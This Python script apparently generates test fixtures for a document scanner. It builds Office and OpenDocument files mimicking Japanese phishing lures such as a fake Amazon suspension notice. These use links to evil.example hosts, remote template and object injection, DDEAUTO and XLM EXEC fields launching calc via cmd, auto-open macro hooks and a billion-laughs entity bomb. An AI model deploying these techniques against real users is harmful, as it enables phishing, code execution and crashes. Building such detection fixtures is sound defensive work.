"""The documents that no office program makes by itself: what phishers make of one. Called by make.sh."""
import os, struct, sys, zipfile

os.chdir(sys.argv[1])
DATE = (2026, 1, 1, 0, 0, 0)
REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
MS = 'http://schemas.microsoft.com/office/2006/relationships'


def rewrite(source, target, change={}, add={}):
    """The package again, with parts changed by a function or added."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, 'w', zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            data = old.read(name)
            # Half of a small document would be styles.
            if name in ('word/styles.xml', 'word/stylesWithEffects.xml'):
                data = b'<?xml version="1.0"?><w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
            if name in change:
                data = change[name](data)
            if name.startswith('docProps/thumbnail'):
                continue
            info = zipfile.ZipInfo(name, DATE)
            info.compress_type = zipfile.ZIP_DEFLATED
            new.writestr(info, data)
        for name, data in add.items():
            info = zipfile.ZipInfo(name, DATE)
            info.compress_type = zipfile.ZIP_DEFLATED
            new.writestr(info, data)


def relation(id, type, target, external=True):
    mode = ' TargetMode="External"' if external else ''
    return f'<Relationship Id="{id}" Type="{type}" Target="{target}"{mode}/></Relationships>'.encode()


def related(*args, **more):
    return lambda data: data.replace(b'</Relationships>', relation(*args, **more))


# A shape that is a link, and one that starts a program: LibreOffice drops both.
if sys.argv[2:] == ['again']:
    def click(data):
        shape = b'<p:cNvPr id="%d" name="%s"><a:hlinkClick xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="' + REL.encode() + b'" r:id="%s"%s/></p:cNvPr>'
        words = '<p:txBody><a:bodyPr xmlns:a="{0}"/><a:p xmlns:a="{0}"><a:r><a:t>今すぐ確認</a:t></a:r></a:p></p:txBody>'.format('http://schemas.openxmlformats.org/drawingml/2006/main').encode()
        sp = lambda *about: b'<p:sp><p:nvSpPr>' + shape % about + b'<p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/>' + words + b'</p:sp>'
        return data.replace(b'</p:spTree>', sp(90, b'b1', b'e1', b'') + sp(91, b'b2', b'e2', b' action="ppaction://program"') + b'</p:spTree>')
    rewrite('made/slides.pptx', 'made/again.pptx', {
        'ppt/slides/slide1.xml': click,
        'ppt/slides/_rels/slide1.xml.rels': lambda data: related('e2', REL + '/hyperlink', 'file:///C:\\Windows\\System32\\calc.exe')(
            related('e1', REL + '/hyperlink', 'https://shape.evil.example/b')(data))})
    os.replace('made/again.pptx', 'made/slides.pptx')
    sys.exit()

import docx, openpyxl
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls


def hyperlink(paragraph, address, words):
    id = paragraph.part.relate_to(address, REL + '/hyperlink', is_external=True)
    paragraph._p.append(parse_xml(
        f'<w:hyperlink {nsdecls("w", "r")} r:id="{id}"><w:r><w:t>{words}</w:t></w:r></w:hyperlink>'))


def field(paragraph, instruction, result):
    for xml in (f'<w:r {nsdecls("w")}><w:fldChar w:fldCharType="begin"/></w:r>',
                f'<w:r {nsdecls("w")}><w:instrText xml:space="preserve">{instruction[:6]}</w:instrText></w:r>',
                f'<w:r {nsdecls("w")}><w:instrText xml:space="preserve">{instruction[6:]}</w:instrText></w:r>',
                f'<w:r {nsdecls("w")}><w:fldChar w:fldCharType="separate"/></w:r>',
                f'<w:r {nsdecls("w")}><w:t>{result}</w:t></w:r>',
                f'<w:r {nsdecls("w")}><w:fldChar w:fldCharType="end"/></w:r>'):
        paragraph._p.append(parse_xml(xml))


def document():
    return docx.Document()


# The usual one: a letter with a button.
doc = document()
doc.sections[0].header.paragraphs[0].text = 'Amazon カスタマーサービス'
doc.sections[0].footer.paragraphs[0].text = 'https://www.amazon.co.jp/ をご確認ください'
doc.add_paragraph('お客様のアカウントは一時的に停止されました。')
hyperlink(doc.add_paragraph('こちらから：'), 'https://login.evil.example/amazon', 'アカウントを確認する')
field(doc.add_paragraph('または '), ' HYPERLINK "https://field.evil.example/a" \\o "見る" ', 'https://www.amazon.co.jp/')
table = doc.add_table(1, 2)
table.cell(0, 0).text, table.cell(0, 1).text = '会員番号', '12345'
doc.save('plain.docx')
box = ('<w:p {0}><w:r><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
       '<mc:Choice Requires="wps"><w:drawing><w:txbxContent><w:p><w:r><w:t>枠の中の文章</w:t></w:r></w:p></w:txbxContent></w:drawing></mc:Choice>'
       '<mc:Fallback><w:pict><w:txbxContent><w:p><w:r><w:t>枠の中の文章</w:t></w:r></w:p></w:txbxContent></w:pict></mc:Fallback>'
       '</mc:AlternateContent></w:r></w:p>').format(nsdecls('w'))
doc.element.body.insert(0, parse_xml(box))
doc.save('raw.docx')
rewrite('raw.docx', 'button.docx')

# A code instead of a link, and a picture that is a link.
doc = document()
doc.add_paragraph('スマートフォンで読み取ってください')
doc.add_picture('qr.png')
id = doc.part.relate_to('https://picture.evil.example/', REL + '/hyperlink', is_external=True)
for properties in doc.element.iter('{http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing}docPr'):
    properties.append(parse_xml(f'<a:hlinkClick {nsdecls("a", "r")} r:id="{id}"/>'))
doc.save('raw.docx')
rewrite('raw.docx', 'qr.docx')

# A template, a picture, a frame and an object from outside; and a template on the author's own disk, which is none.
doc = document()
doc.add_paragraph('見積書')
doc.save('raw.docx')
empty = b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
rewrite('raw.docx', 'template.docx',
        {'word/_rels/document.xml.rels': lambda data: related('e1', REL + '/oleObject', 'https://object.evil.example/x!')(
            related('e2', REL + '/image', 'https://picture.evil.example/pixel.png')(
                related('e3', REL + '/frame', '\\\\192.0.2.7\\share\\a.htm')(data)))},
        {'word/_rels/settings.xml.rels': related('t1', REL + '/attachedTemplate', 'https://template.evil.example/a.dotm')(empty)})
rewrite('raw.docx', 'own-template.docx', {},
        {'word/_rels/settings.xml.rels': related('t1', REL + '/attachedTemplate', 'file:///C:\\Users\\taro\\Normal.dotm')(empty)})

# Fields that start a program or load.
doc = document()
field(doc.add_paragraph(), ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ', '!')
field(doc.add_paragraph(), ' INCLUDEPICTURE "https://picture.evil.example/p.png" \\d ', '')
doc.save('raw.docx')
rewrite('raw.docx', 'dde.docx')

# Macros: the part that holds them is a dummy; the package says what it is.
doc = document()
doc.add_paragraph('「コンテンツの有効化」を押してください')
doc.save('raw.docx')
rewrite('raw.docx', 'macro.docm', {'word/_rels/document.xml.rels': related('m1', MS + '/vbaProject', 'vbaProject.bin', external=False)},
        {'word/vbaProject.bin': b'dummy'})

# A file inside.
rewrite('raw.docx', 'embedded.docx', {'word/_rels/document.xml.rels': related('o1', REL + '/package', 'embeddings/a.docx', external=False)},
        {'word/embeddings/a.docx': open('button.docx', 'rb').read(), 'word/請求書.js': b'WScript.Echo(1)'})

# Entities that make a gigabyte.
lol = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "aaaaaaaaaa">' + ''.join(
    f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">' for n in range(9)) + ']>'
rewrite('raw.docx', 'entities.docx', {'word/document.xml': lambda data: lol.encode() + data[data.index(b'<w:document'):].replace('「コ'.encode(), b'&j;')})

# A workbook with the usual request, links of every kind.
book = openpyxl.Workbook()
sheet = book.active
sheet.title = '請求書'
sheet['A1'] = '「コンテンツの有効化」をクリックしてください'
sheet['A2'] = 'お支払いはこちら'
sheet['A2'].hyperlink = 'https://cell.evil.example/pay'
sheet['A3'] = '=HYPERLINK("https://formula.evil.example/","確認する")'
sheet['A4'] = 12800
hidden = book.create_sheet('裏')
hidden.sheet_state = 'veryHidden'
hidden['A1'] = 'https://hidden.evil.example/'
book.save('raw.xlsx')
rewrite('raw.xlsx', 'sheet.xlsx')
rewrite('raw.xlsx', 'macro.xlsm', {
    'xl/_rels/workbook.xml.rels': lambda data: related('m1', MS + '/vbaProject', 'vbaProject.bin', external=False)(
        related('m2', MS + '/xlMacrosheet', 'macrosheets/sheet1.xml', external=False)(data)),
    'xl/workbook.xml': lambda data: data.replace(b'<definedNames/>', b'').replace(
        b'</sheets>', b'</sheets><definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName></definedNames>')},
    {'xl/vbaProject.bin': b'dummy',
     'xl/macrosheets/sheet1.xml': b'<?xml version="1.0"?><xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc")</f><v>0</v></c></row></sheetData></xm:macrosheet>',
     'xl/externalLinks/externalLink1.xml': b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'})

# Slides, in the one form of OpenDocument that is a single file.
page = '''<?xml version="1.0" encoding="UTF-8"?>
<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.presentation">
<office:body><office:presentation><draw:page draw:name="p1">
<draw:frame svg:x="2cm" svg:y="2cm" svg:width="20cm" svg:height="3cm"><draw:text-box><text:p>口座が凍結されました</text:p><text:p><text:a xlink:type="simple" xlink:href="https://slide.evil.example/a">ログインはこちら</text:a></text:p></draw:text-box></draw:frame>
<draw:custom-shape svg:x="2cm" svg:y="8cm" svg:width="6cm" svg:height="2cm"><office:event-listeners><presentation:event-listener script:event-name="dom:click" presentation:action="show" xlink:href="https://shape.evil.example/b" xlink:type="simple" xlink:show="embed" xlink:actuate="onRequest"/></office:event-listeners><text:p>確認する</text:p></draw:custom-shape>
<presentation:notes><draw:frame presentation:class="notes" svg:x="2cm" svg:y="14cm" svg:width="16cm" svg:height="10cm"><draw:text-box><text:p>発表者のメモ</text:p></draw:text-box></draw:frame></presentation:notes>
</draw:page></office:presentation></office:body></office:document>'''
open('slides.fodp', 'w', encoding='utf-8').write(page)
for name in ('raw.docx', 'plain.docx', 'raw.xlsx'):
    os.remove(name)

# A script in a text: what LibreOffice writes for a macro on opening.
manifest = '<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>%s</manifest:manifest>'
content = '<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"><office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></office:event-listeners></office:scripts><office:body><office:text><text:p>請求書<draw:frame><draw:image xlink:href="https://picture.evil.example/p.png"/></draw:frame></text:p></office:text></office:body></office:document-content>'
module = '<?xml version="1.0"?><script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">Sub Main\nEnd Sub</script:module>'
with zipfile.ZipFile('macro.odt', 'w') as new:
    for name, data in (('mimetype', 'application/vnd.oasis.opendocument.text'), ('content.xml', content), ('Basic/Standard/Module1.xml', module), ('META-INF/manifest.xml', manifest % '')):
        new.writestr(zipfile.ZipInfo(name, DATE), data)
with zipfile.ZipFile('locked.odt', 'w') as new:
    locked = '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"><manifest:encryption-data manifest:checksum-type="SHA1"/></manifest:file-entry>'
    for name, data in (('mimetype', 'application/vnd.oasis.opendocument.text'), ('content.xml', bytes(range(256))), ('META-INF/manifest.xml', manifest % locked)):
        new.writestr(zipfile.ZipInfo(name, DATE), data)
